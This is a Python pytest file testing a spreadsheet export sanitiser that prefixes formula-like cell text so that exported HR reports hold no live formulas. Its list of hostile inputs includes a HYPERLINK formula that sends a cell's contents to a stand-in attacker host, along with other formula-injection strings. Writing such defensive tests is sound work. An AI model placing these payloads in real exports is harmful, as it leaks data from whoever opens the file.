"""The one spreadsheet sanitiser (core/exports.py, also reached through the HR reports'
exports) leaves no live formula; the files themselves are checked in test_export_sanitise.py."""

from datetime import date
from decimal import Decimal

import pytest

from core import exports
from reports import exports as report_exports

HOSTILE = [
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("implementation", [exports.safe_cell, report_exports.safe_cell])
@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed(implementation, text):
    assert implementation(text) == "'" + text


@pytest.mark.parametrize("implementation", [exports.safe_cell, report_exports.safe_cell])
@pytest.mark.parametrize(
    "value", ["Budi Santoso", "198503302010011003", "a=b", "", "III/a", "'sudah"]
)
def test_ordinary_text_is_unchanged(implementation, value):
    assert implementation(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, Decimal("-1.25"), date(2026, 1, 2), 0])
def test_numbers_and_dates_stay_what_they_are(value):
    assert exports.safe_cell(value) == value
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(True) is True
